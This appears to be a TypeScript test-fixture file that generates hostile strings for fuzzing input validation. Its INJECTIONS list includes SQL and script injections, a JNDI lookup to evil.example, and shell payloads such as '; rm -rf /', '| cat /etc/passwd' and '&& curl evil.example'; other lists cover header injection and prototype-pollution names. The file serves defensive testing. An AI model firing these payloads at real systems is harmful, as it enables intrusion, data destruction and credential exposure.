import { HOSTS, IMAGE_URIS, PATH_TRAVERSALS, RESOURCE_NAMES, STORAGE_URIS } from './names';

// Malicious values of a text field. Each group is one kind of attack; the same value in
// two groups counts once.

/** Halves of characters: not valid Unicode. */
export const HALF_CHARACTERS = ['\ud800', '\udbff', '\udc00', '\udfff', '\udc00\ud800', '\ud83d\ud83d', '\ude00'];

const LARGE_TEXTS = ['x'.repeat(1_024), '../'.repeat(400), 'x'.repeat(65_536), '<'.repeat(65_536), '€'.repeat(65_536)];
const HUGE_TEXTS = ['x'.repeat(1_900_000), '\u{1f600}'.repeat(475_000)];

const CONTROL_CHARACTERS = [...range(0, 0x20), 0x7f, ...range(0x80, 0xa0)].map((code) => String.fromCharCode(code));

const DIRECTIONS_AND_BREAKS = [
  '\u200b\u200c\u200d\u200e\u200f',
  '\u2028',
  '\u2029',
  '\u202a',
  '\u202b',
  '\u202d',
  '\u202e',
  '\u2066',
  '\u2067',
  '\u2069',
  '\u061c',
  '\ufeff',
  '\u00ad',
  '\u2060',
  '\u180e',
  '\ufffe',
  '\uffff',
  '\u{e0041}',
];

const HEADER_INJECTIONS = [
  '\r\n',
  '\r\nHost: evil.example',
  '\r\nAuthorization: Bearer evil',
  '\n\nGET http://evil.example/ HTTP/1.1',
  '%0d%0aHost:%20evil.example',
  '\u010d\u010aHost: evil.example',
  '\u560d\u560aHost: evil.example',
  ' HTTP/1.1\r\nX-Evil: 1\r\n\r\n',
];

const URL_CHARACTERS = '@:/?#%\\[]&=+;,$!*\'"()<>|^`{} ~'
  .split('')
  .concat([
    '@@',
    '::',
    '??',
    '##',
    '%',
    '%%',
    '%4',
    '%zz',
    '%40',
    '%40%40',
    '%2540',
    '%23',
    '%3f',
    '%3F',
    '%2F',
    '%5c',
    '%00',
    '%0a',
    '%20',
    '?alt=media',
    '#fragment',
    '?pageToken=x&filter=y',
    ';jsessionid=1',
    ':export',
    ':cancel',
    ':setIamPolicy',
  ]);

const NAMES_OF_PROPERTIES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'valueOf',
  'hasOwnProperty',
  '__defineGetter__',
  'toJSON',
  'then',
  'length',
  'null',
  'undefined',
  'true',
  'false',
  'NaN',
  'Infinity',
  '[object Object]',
];

const NUMBERS_AND_DURATIONS = [
  '0',
  '-1',
  '-0',
  '1e308',
  '1e309',
  '9007199254740993',
  '0x10',
  '1_000',
  '\u0661\u0662',
  '99999999999d',
  `${'9'.repeat(400)}s`,
  '366d',
  '8761h',
  '-1s',
  '0s',
  '1e5s',
  'Infinityd',
  'NaNs',
  '1 fortnight',
  '0.0000001ms',
  `0.${'0'.repeat(60)}1s`,
  `${' '.repeat(70)}1s`,
  '1s1s',
  '1\0s',
  'P1D',
  'all',
  'ALL',
];

const TIMES = ['2026-13-45T99:99:99Z', '0000-00-00T00:00:00Z', '+275760-09-13T00:00:00.001Z', '2026-01-01', 'now'];

const INJECTIONS = [
  "' OR '1'='1",
  '"; DROP TABLE models; --',
  'labels.team="x" OR true',
  '" OR labels.x="y',
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '</pre><a href="https://evil.example">',
  '[link](https://evil.example)',
  '![image](https://evil.example/x.png)',
  '`code`',
  '$(touch /tmp/evil)',
  '`touch /tmp/evil`',
  '; rm -rf /',
  '| cat /etc/passwd',
  '&& curl evil.example',
  '${process.env.HOME}',
  '{{7*7}}',
  '#{7*7}',
  '<%= 7*7 %>',
  '%s%s%s%n',
  '%d',
  '{0}',
  '${jndi:ldap://evil.example/a}',
  '{"a":1}',
  '[]',
  '{}',
  '"quoted"',
  "\\'",
  '\\',
  '\\u0000',
  '\\ud800',
  '\u001b[2J\u001b[31mred',
  '\u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
  '\u009b31m',
  '-----BEGIN PRIVATE KEY-----',
  '=cmd|"/c calc"!A1',
  '--help',
  '-rf',
  '*',
  '(?:a+)+$',
  `${'a'.repeat(5_000)}!`,
  '('.repeat(5_000),
  '[{"a":'.repeat(1_000),
  'gs://'.repeat(1_000),
];

const UNICODE = [
  '',
  ' ',
  '   ',
  '\u3000',
  '\u00a0',
  '\u0440\u0430\u0443\u0440\u0430l',
  '\uff50\uff52\uff4f\uff4a\uff45\uff43\uff54\uff53',
  '\u2160',
  'e\u0301',
  `e${'\u0301'.repeat(1_000)}`,
  'Z\u0351\u036b\u0343\u036a\u0302\u036bA\u0334L\u0321G\u0322O',
  '\u{1f600}',
  '\u{1f468}\u200d\u{1f469}\u200d\u{1f467}',
  '\u{1f1fa}\u{1f1f8}',
  '\u05e9\u05dc\u05d5\u05dd',
  '\u0645\u0631\u062d\u0628\u0627',
  '\u4e2d\u6587',
  '\ufdfa',
  '\u0130',
  '\u0131',
  '\u017f',
  '\u212a',
  '\u00df',
  '\ufb03',
  '\u{10ffff}',
  '\u{1d400}',
];

/** Inserted into valid texts: at the start, in the middle, at the end, and in place of each part. */
const FRAGMENTS = [
  ...HALF_CHARACTERS.slice(0, 5),
  '\0',
  '\n',
  '\r\nHost: evil.example',
  '\u202e',
  '..',
  '/../',
  '%2e%2e',
  '@evil.example',
  'evil.example#',
  '?',
  '#',
  '%00',
  '\u001b[31m',
  ' ',
  '\uff0f',
];

/** Texts that are hostile in any field: at least 300. */
export const HOSTILE_TEXTS: readonly string[] = [
  ...new Set([
    ...HALF_CHARACTERS.flatMap(atEachPlace),
    ...CONTROL_CHARACTERS.flatMap((character) => [character, `a${character}b`]),
    ...DIRECTIONS_AND_BREAKS.flatMap((mark) => [mark, `a${mark}b`]),
    ...[...HEADER_INJECTIONS, ...PATH_TRAVERSALS, ...URL_CHARACTERS, ...HOSTS, ...RESOURCE_NAMES],
    ...[...STORAGE_URIS, ...IMAGE_URIS, ...NAMES_OF_PROPERTIES, ...NUMBERS_AND_DURATIONS, ...TIMES],
    ...[...INJECTIONS, ...UNICODE, ...LARGE_TEXTS, ...HUGE_TEXTS],
  ]),
];

/** The hostile texts, and those that are derived from a valid text of the field. */
export function hostileTextsFor(valid: string): string[] {
  const middle = Math.floor(valid.length / 2);
  const inserted = FRAGMENTS.flatMap((fragment) => [
    `${fragment}${valid}`,
    `${valid.slice(0, middle)}${fragment}${valid.slice(middle)}`,
    `${valid}${fragment}`,
  ]);
  const parts = valid.split('/');
  const replaced = parts.length < 2 ? [] : parts.flatMap((_, index) => FRAGMENTS.map(replacedPart(parts, index)));
  const changed = [valid.toUpperCase(), `${valid}/`, `${valid}/${valid}`, valid.replaceAll('/', '%2f'), `${valid}@@1`];
  return [...new Set([...HOSTILE_TEXTS, ...inserted, ...replaced, ...changed])].filter((text) => text !== valid);
}

const replacedPart = (parts: readonly string[], index: number) => (fragment: string) =>
  parts.with(index, fragment).join('/');

function atEachPlace(fragment: string): string[] {
  return [fragment, `${fragment}bc`, `b${fragment}c`, `bc${fragment}`];
}

function* range(from: number, to: number): Generator<number> {
  for (let value = from; value < to; value += 1) yield value;
}
